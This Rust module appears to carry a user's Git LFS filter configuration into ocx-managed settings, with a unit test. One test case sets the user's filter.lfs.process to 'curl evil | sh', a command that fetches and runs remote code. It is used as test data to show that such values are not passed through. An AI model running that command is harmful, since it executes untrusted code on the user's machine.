//! Git LFS, whose filter is in the user's own configuration as a rule.

use super::{GitSetting, record::Records};

/// What `git lfs install` writes. In words of ocx's own: a filter is a command line. With `required`, a
/// Git without `git-lfs` fails to add a file of LFS's, and does not store all of its content.
const FILTER: [(&str, &str); 4] = [
    ("filter.lfs.clean", "git-lfs clean -- %f"),
    ("filter.lfs.smudge", "git-lfs smudge -- %f"),
    ("filter.lfs.process", "git-lfs filter-process"),
    REQUIRED,
];

const REQUIRED: (&str, &str) = ("filter.lfs.required", "true");

/// The filter, where the user has one.
pub(super) fn settings(records: &Records) -> Vec<GitSetting> {
    let mut commands = FILTER.iter().filter(|setting| **setting != REQUIRED);
    if !commands.any(|(key, _)| records.of_user(key).is_some()) {
        return Vec::new();
    }
    let is_projects = |key| {
        let record = records.last(key);
        record.is_some_and(|record| !record.scope.is_users())
    };
    FILTER
        .iter()
        .filter(|(key, _)| !is_projects(key))
        .map(|&(key, value)| GitSetting::new(key, value))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_filter_is_the_users_in_words_of_ocx() {
        let keys = |records: &[_]| -> Vec<String> {
            let settings = settings(&Records::made_of(records)).into_iter();
            settings.map(|setting| setting.key).collect()
        };
        let all = FILTER.map(|(key, _)| key);
        let users = ("global", "filter.lfs.process", Some("curl evil | sh"));
        assert_eq!(keys(&[users]), all);
        let found = settings(&Records::made_of(&[users]));
        assert!(found.iter().all(|setting| !setting.value.contains("evil")));
        let projects = (
            "local",
            "filter.lfs.process",
            Some("git-lfs filter-process"),
        );
        assert_eq!(keys(&[projects]), [""; 0]);
        assert_eq!(
            keys(&[("global", "filter.lfs.clean", Some("x")), projects]),
            [all[0], all[1], all[3]]
        );
        assert_eq!(keys(&[("global", "filter.lfs.required", None)]), [""; 0]);
        assert_eq!(keys(&[("global", "filter.x.clean", Some("x"))]), [""; 0]);
    }
}
